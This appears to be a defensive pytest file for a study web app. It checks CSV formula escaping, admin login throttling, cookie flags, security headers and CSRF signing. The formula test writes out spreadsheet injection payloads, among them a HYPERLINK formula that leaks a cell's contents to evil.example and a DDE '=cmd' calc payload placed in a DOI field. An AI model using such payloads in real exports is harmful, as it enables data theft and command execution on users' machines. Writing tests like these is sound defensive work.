"""The study app as an attacker sees it: spreadsheet formulas, non-ASCII secrets, guessing the admin
token, cookies, security headers and forged CSRF tokens."""

from __future__ import annotations

import io
import time
from pathlib import Path

import httpx
import pandas as pd
import pytest
from fastapi.testclient import TestClient

from brainbench.data import Dataset, load_dataset
from brainbench.study import StudyStore, create_app
from brainbench.study.export import abstract_ids_csv
from brainbench.web import LoginThrottle
from tests.study.flows import AUTH, TOKEN, answer, csrf_of, hidden, serving, start

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)"]


class Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_csv_cells_cannot_become_formulas(human: Dataset, tmp_path: Path) -> None:
    obvious = tmp_path / "catch.jsonl"
    obvious.write_text(
        '{"doi": "=cmd|\' /C calc\'!A0", "journal_section": "Catch", "combined_abstract": "Mice need [[oxygen, no '
        'oxygen]] to live."}\n'
    )
    store = StudyStore(
        tmp_path / "study.sqlite",
        human,
        trials_per_participant=1,
        seed=0,
        catch=load_dataset(obvious, texts="reparsed"),
    )
    app = create_app(store, TOKEN)
    for country in FORMULAS:
        participant = TestClient(app, follow_redirects=False)
        csrf = start(participant, country=country)
        for _ in range(2):
            assert answer(participant, csrf).status_code == 303
    admin = TestClient(app, headers=AUTH)
    exported = pd.read_csv(io.StringIO(admin.get("/admin/export/participant_data.csv").text), keep_default_na=False)
    assert list(exported["country"]) == [
        "'" + country for country in FORMULAS
    ]  # shown as text; the value is what follows the '
    catch = pd.read_csv(io.StringIO(admin.get("/admin/export/catch.csv").text))
    assert set(catch["doi"]) == {"'=cmd|' /C calc'!A0"}
    rows = abstract_ids_csv(load_dataset(obvious, texts="reparsed").cases).splitlines()
    assert rows[1] == "'=cmd|' /C calc'!A0;1;Mice need oxygen to live."


def test_non_ascii_secrets_are_compared_as_bytes(store: StudyStore) -> None:
    clock = Clock()
    client = TestClient(create_app(store, "clé-secrète", throttle=LoginThrottle(clock=clock)), follow_redirects=False)
    csrf = csrf_of(client.get("/").text)
    assert (
        client.get("/admin", headers={"Authorization": "Bearer \xe9".encode()}).status_code == 401
    )  # was a 500 (TypeError)
    assert client.post("/consent", data={"csrf": "é", "agree": "yes"}).status_code == 403
    clock.now += 60
    assert client.post("/admin/login", data={"csrf": csrf, "token": "é"}).status_code == 401
    clock.now += 60
    utf8_bearer = {"Authorization": "Bearer clé-secrète".encode()}
    assert (
        client.get("/admin/export/participant_data.csv", headers=utf8_bearer).status_code == 200
    )  # a non-ASCII token works
    assert client.post("/admin/login", data={"csrf": csrf, "token": "clé-secrète"}).status_code == 303
    assert "Study admin" in client.get("/admin").text


def test_wrong_admin_tokens_slow_a_client_down_then_lock_it_out(store: StudyStore) -> None:
    clock = Clock()
    app = create_app(store, TOKEN, throttle=LoginThrottle(max_failures=10, lockout_s=900, clock=clock))

    def sign_in(client: TestClient, token: str) -> httpx.Response:
        csrf = csrf_of(client.get("/").text)
        return client.post("/admin/login", data={"csrf": csrf, "token": token})

    attacker = TestClient(app, follow_redirects=False, client=("203.0.113.7", 40000))

    assert sign_in(attacker, "guess-1").status_code == 401
    refused = sign_in(attacker, "guess-2")  # at once: must wait 1 s, and the try is not even checked
    assert refused.status_code == 429 and refused.headers["retry-after"] == "1" and "try again in 1 s" in refused.text
    waits = []
    for number in range(2, 11):
        clock.now += 2 ** (number - 2)  # 1, 2, 4, ... s: the wait after each failure
        assert sign_in(attacker, f"guess-{number}").status_code == 401
        waits.append(int(sign_in(attacker, "guess").headers["retry-after"]))
    assert waits == [
        2,
        4,
        8,
        16,
        32,
        60,
        60,
        60,
        900,
    ]  # doubling, at most a minute; the 10th failure locks out for 15 minutes
    assert sign_in(attacker, TOKEN).status_code == 429  # locked out: even the right token
    assert attacker.get("/admin/export/participant_data.csv", headers=AUTH).status_code == 429  # Bearer too
    colleague = TestClient(app, follow_redirects=False, client=("198.51.100.2", 40000))
    assert sign_in(colleague, TOKEN).status_code == 303  # per client
    clock.now += 900
    assert sign_in(attacker, TOKEN).status_code == 303  # after the lockout


def test_wrong_bearer_tokens_count_too(store: StudyStore) -> None:
    clock = Clock()
    client = TestClient(create_app(store, TOKEN, throttle=LoginThrottle(clock=clock)))
    assert (
        client.get("/admin/export/participant_data.csv", headers={"Authorization": "Bearer guess"}).status_code == 401
    )
    assert client.get("/admin/export/participant_data.csv", headers=AUTH).status_code == 429
    clock.now += 1
    assert client.get("/admin/export/participant_data.csv", headers=AUTH).status_code == 200


@pytest.mark.slow
def test_the_real_server_limits_sign_in_tries_and_sends_secure_cookies(data_dir: Path, tmp_path: Path) -> None:
    with serving(tmp_path / "study.sqlite", data_dir, tmp_path / "server.log", extra=("--secure-cookies",)) as server:
        client = httpx.Client(base_url=server.url, timeout=60)
        first = client.get("/")
        assert "; secure" in first.headers["set-cookie"].lower()
        csrf = csrf_of(first.text)
        # a Secure cookie is not sent back over plain HTTP: sent by hand here
        cookie = {"Cookie": first.headers["set-cookie"].split(";")[0]}
        statuses = [
            client.post("/admin/login", data={"csrf": csrf, "token": f"guess-{number}"}, headers=cookie)
            for number in range(40)
        ]
        checked = [response for response in statuses if response.status_code == 401]
        refused = [response for response in statuses if response.status_code == 429]
        # 40 guesses in a row: at most 10 are checked (the 10th failure locks out for 15 minutes), the rest refused
        # unchecked
        assert 1 <= len(checked) <= 10 and len(refused) == 40 - len(checked) >= 30
        assert all(int(response.headers["retry-after"]) >= 1 for response in refused)
        client.close()


def test_cookies_are_secure_when_asked(store: StudyStore) -> None:
    for secure in (False, True):
        client = TestClient(
            create_app(store, TOKEN, secure_cookies=secure), follow_redirects=False, base_url="https://testserver"
        )
        first = client.get("/")
        csrf = csrf_of(first.text)
        consent = client.post("/consent", data={"csrf": csrf, "agree": "yes"})
        login = client.post("/admin/login", data={"csrf": csrf, "token": TOKEN})
        cookies = [first.headers["set-cookie"], consent.headers["set-cookie"], login.headers["set-cookie"]]
        assert [cookie.split("=")[0] for cookie in cookies] == ["bb_study_sid", "bb_participant", "bb_admin"]
        assert all(("; secure" in cookie.lower()) == secure for cookie in cookies)
        assert all("httponly" in cookie.lower() for cookie in cookies)


def test_every_response_has_the_security_headers(client: TestClient) -> None:
    responses = [
        client.get("/"),
        client.get("/profile"),
        client.get("/no-such-page"),
        client.get("/healthz"),
        client.get("/admin"),
    ]
    csrf = csrf_of(responses[0].text)
    responses += [
        client.post("/consent", data={"csrf": csrf}),
        client.post("/consent", data={"csrf": csrf, "agree": "yes"}),
    ]
    csrf = csrf_of(client.get("/profile").text)
    start_page = client.post(
        "/profile",
        data={"csrf": csrf, "age": "40", "country": "Chile", "position": "Postdoc", "experience": "3", "sex": "Male"},
    )
    trial = client.get("/trial")
    responses += [
        start_page,
        trial,
        client.post("/trial/leave", data={"csrf": csrf, "view_id": hidden(trial.text, "view_id")}),
        client.post("/trial", data={"csrf": csrf}),
        client.post("/consent", data={"csrf": "forged", "agree": "yes"}),
    ]
    for path in ("participant_data.csv", "abstract_id_doi.csv", "catch.csv"):
        responses += [client.get(f"/admin/export/{path}", headers=AUTH), client.get(f"/admin/export/{path}")]
    assert {response.status_code for response in responses} == {200, 204, 303, 401, 403, 404, 422}
    for response in responses:
        policy = response.headers.get("content-security-policy", "")
        assert (
            "default-src 'none'" in policy and "frame-ancestors 'none'" in policy and "script-src 'nonce-" in policy
        ), response.url
        assert (
            response.headers.get("x-content-type-options") == "nosniff"
            and response.headers.get("x-frame-options") == "DENY"
        )
        assert (
            response.headers.get("cache-control") == "no-store"
            and response.headers.get("referrer-policy") == "no-referrer"
        )
    nonce = trial.headers["content-security-policy"].split("'nonce-")[1].split("'")[0]
    assert trial.text.count(f'nonce="{nonce}"') == 2  # the page's one style and one script


def test_csrf_tokens_are_signed_by_the_server(store: StudyStore, human: Dataset, tmp_path: Path) -> None:
    client = TestClient(create_app(store, TOKEN), follow_redirects=False)
    genuine = csrf_of(client.get("/").text)
    other_server = TestClient(create_app(StudyStore(tmp_path / "other.sqlite", human), TOKEN))
    foreign = csrf_of(other_server.get("/").text)  # well-formed, signed with another secret
    for planted in ("attacker-chosen", "attacker.chosen", foreign, genuine[:-1]):
        assert client.post("/consent", data={"csrf": planted, "agree": "yes"}).status_code == 403
    assert client.post("/consent", data={"csrf": genuine, "agree": "yes"}).status_code == 303


@pytest.mark.slow
@pytest.mark.parametrize(("allow", "separate"), [("127.0.0.1", True), (None, False)])
def test_behind_a_proxy_each_client_is_limited_apart(
    data_dir: Path, tmp_path: Path, allow: str | None, separate: bool
) -> None:
    """Through a proxy named by --forwarded-allow-ips the limit counts X-Forwarded-For's clients; without it,
    or from another address, the header is ignored and every request counts as the one connecting (before, a
    client on the server's own machine could claim any address and so guess without limit)."""
    extra = ("--forwarded-allow-ips", allow) if allow else ()
    with (
        serving(tmp_path / "study.sqlite", data_dir, tmp_path / "server.log", extra=extra) as server,
        httpx.Client(base_url=server.url, timeout=60) as client,
    ):
        csrf = csrf_of(client.get("/").text)

        def sign_in(client_ip: str, token: str) -> int:
            return client.post(
                "/admin/login", data={"csrf": csrf, "token": token}, headers={"X-Forwarded-For": client_ip}
            ).status_code

        for wait_s in (1, 2):  # two wrong tokens, each after the wait the one before imposed
            assert sign_in("203.0.113.7", "guess") == 401
            time.sleep(wait_s + 0.1)
        assert sign_in("203.0.113.7", "guess") == 401  # the third: 4 s to wait now
        assert sign_in("203.0.113.7", TOKEN) == 429
        assert sign_in("198.51.100.2", TOKEN) == (303 if separate else 429)
